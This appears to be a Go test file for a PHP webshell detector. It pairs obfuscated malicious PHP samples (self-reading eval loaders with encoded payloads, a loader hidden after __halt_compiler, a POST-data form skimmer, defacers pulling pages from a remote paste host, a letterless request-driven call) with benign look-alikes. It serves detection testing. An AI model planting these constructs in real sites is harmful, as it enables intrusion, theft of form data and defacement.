package php

import (
	"testing"

	"github.com/yingji/yingji/internal/webshell/verdict"
)

// recall2Probes are the constructs of recall2.go, each with a benign
// look-alike that must stay below verdict.Report.
var recall2Probes = []struct {
	name string
	src  string
	want bool
}{
	{"self-reading loader", `<?php
defined('K') || define('K', __FILE__);
global $T;
if (!function_exists('d')) { function d($s, $k = '') { if (empty($s)) return ''; $s = base64_decode($s); if ($k == '') return ~$s; $k = $GLOBALS['T']['p']($k, $GLOBALS['T']['l']($s), $k); return $s ^ $k; } }
$T['p'] = d('jIuNoI+emw==', '');
$T['l'] = d('jIuNk5qR', '');
$T['f'] = d('LRhVLi5eLgVmKB5XPxRXPwI=', 'Kq9');
$T['s'] = d('OARbOAVL', 'Kq9');
$T['b'] = d('KRBKLkcNFBVcKB5dLg==', 'Kq9');
$T['r'] = d('OAVLORRP', 'Kq9');
$x = $GLOBALS['T']['f'](K);
$x = $GLOBALS['T']['s']($x, -28);
$x = $GLOBALS['T']['b']($GLOBALS['T']['r']($x));
return eval($x);
?>==wOp01JjdyWUV0RfRCKtVGdzl3c`, true},
	// The same loader whose offset misses its payload (a copy of the file
	// edited since): it still decodes a part of itself and evaluates it.
	{"self-reading loader, stale offset", `<?php
defined('K') || define('K', __FILE__);
if (!function_exists('d')) { function d($s, $k) { $s = base64_decode($s); return $s ^ $GLOBALS['T']['p']($k, strlen($s), $k); } }
$T['p'] = 'str_pad';
$T['f'] = d('LRhVLi5eLgVmKB5XPxRXPwI=', 'Kq9');
$T['b'] = d('KRBKLkcNFBVcKB5dLg==', 'Kq9');
$T['z'] = d('LAtQJRdVKgVc', 'Kq9');
$x = $T['f'](K);
$x = $T['z']($T['b'](substr($x, -25, 17)));
eval($x);
?>==wOp01JjdyWUV0RfRCKtVGdzl3c`, true},
	{"self-reading image", `<?php
defined('K') || define('K', __FILE__);
if (!function_exists('d')) { function d($s, $k) { $s = base64_decode($s); return $s ^ $GLOBALS['T']['p']($k, strlen($s), $k); } }
$T['p'] = 'str_pad';
$T['f'] = d('LRhVLi5eLgVmKB5XPxRXPwI=', 'Kq9');
$T['b'] = d('KRBKLkcNFBVcKB5dLg==', 'Kq9');
$x = $T['f'](K);
header('Content-Type: image/png');
echo $T['b'](substr($x, -28));
?>==wOp01JjdyWUV0RfRCKtVGdzl3c`, false},
	{"eval of own constants", `<?php
$T = array('file_get_contents', 'base64_decode');
for ($i = 0; $i < 2; $i++) { $v = $T[1]('cmV0dXJuIDE7'); }
$src = $T[0](__FILE__);
echo strlen($src), $v;
eval('return ' . strlen($src) . ';');
`, false},
	{"self-reading loader after __halt_compiler", `<?php
if (!function_exists('d')) { function d($s, $k) { $s = base64_decode($s); return $s ^ $GLOBALS['T']['p']($k, strlen($s), $k); } }
$T['p'] = 'str_pad';
$T['b'] = d('KRBKLkcNFBVcKB5dLg==', 'Kq9');
$T['r'] = d('OAVLORRP', 'Kq9');
$h = fopen(__FILE__, 'rb');
fseek($h, __COMPILER_HALT_OFFSET__);
$x = $T['b']($T['r'](fread($h, 28)));
fclose($h);
eval($x);
__halt_compiler();==wOp01JjdyWUV0RfRCKtVGdzl3c`, true},
	{"installer reading its archive after __halt_compiler", `<?php
if (!function_exists('d')) { function d($s, $k) { $s = base64_decode($s); return $s ^ $GLOBALS['T']['p']($k, strlen($s), $k); } }
$T['p'] = 'str_pad';
$T['b'] = d('KRBKLkcNFBVcKB5dLg==', 'Kq9');
$h = fopen(__FILE__, 'rb');
fseek($h, __COMPILER_HALT_OFFSET__);
file_put_contents(__DIR__ . '/logo.png', $T['b'](stream_get_contents($h)));
__halt_compiler();iVBORw0KGgo=`, false},
	{"obfuscated form skimmer", `<?php
$GLOBALS['t'] = Array(base64_decode('c2VyaWFsaXpl'), base64_decode('Zm9wZW4='), base64_decode('ZnB1dHM='));
if (isset($_POST) && count($_POST) > 0) {
	$d = $_POST;
	$d['ip'] = $_SERVER['REMOTE_ADDR'];
	$f = $GLOBALS['t'][1]($_SERVER['DOCUMENT_ROOT'] . '/var/export/export_prod.csv', 'a');
	$GLOBALS['t'][2]($f, $GLOBALS['t'][0]($d) . "\r\n");
}
`, true},
	{"order export", `<?php
if (isset($_POST) && count($_POST) > 0) {
	$d = $_POST;
	$d['ip'] = $_SERVER['REMOTE_ADDR'];
	$f = fopen(__DIR__ . '/var/export/orders.csv', 'a');
	fputs($f, serialize($d) . "\r\n");
}
`, false},
	{"hidden writer of one field", `<?php
$w = base64_decode('ZnB1dHM=');
$f = fopen(__DIR__ . '/subscribers.txt', 'a');
$w($f, $_POST['email'] . "\n");
`, false},
	{"defacer", `<?php
function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }
$page = $_SERVER['DOCUMENT_ROOT'] . "/index.html";
$h = fopen($page, 'w');
fwrite($h, get('https://paste.example/raw/x'));
fclose($h);
echo "done";
`, true},
	{"defacer, file_put_contents", `<?php
file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/def.htm', file_get_contents('http://paste.example/raw/x'));
`, true},
	{"feed cache", `<?php
$t = file_get_contents('https://news.example/feed.html');
file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/cache/feed.html', $t);
`, false},
	{"static page refresh in a function", `<?php
function refresh() {
	$t = file_get_contents('https://cdn.example/status.html');
	file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/status.html', $t);
}
`, false},
	{"letterless call of a request element", `<?php
$_ = array(); $_[] = '_'; $__ = 0;
$_[$__++] .= ('>' ^ 'n') . ('/' ^ '` + "`" + `') . ('{' ^ '(') . ('{' ^ '/');
$_ = $$_[--$__];
$_[0]($_[1]);
`, true},
	{"dispatch table keyed by input", `<?php
$h = array('up' => 'strtoupper', 'low' => 'strtolower');
$names = array('title'); $title = 'x';
$f = $$names[0];
for ($i = 0; $i < 1; $i++) { echo $h[$_GET['op']]($f); }
`, false},
	{"self-reading version check", `<?php
defined('K') || define('K', __FILE__);
$T = array('file_get_contents', 'substr');
for ($i = 0; $i < 1; $i++) { $v = $T[0](K); }
echo md5($v), $T[1]($v, 0, 5);
`, false},
}

func TestRecall2Probes(t *testing.T) {
	for _, p := range recall2Probes {
		dets := Analyze([]byte(p.src))
		if got := verdict.Max(dets) >= verdict.Report; got != p.want {
			t.Errorf("%s: reported %v, want %v: %+v", p.name, got, p.want, dets)
		}
		for _, d := range dets {
			if d.Score >= verdict.Report && (d.Why == "" || d.WhyZh == "") {
				t.Errorf("%s: %s lacks an explanation", p.name, d.Rule)
			}
		}
	}
}
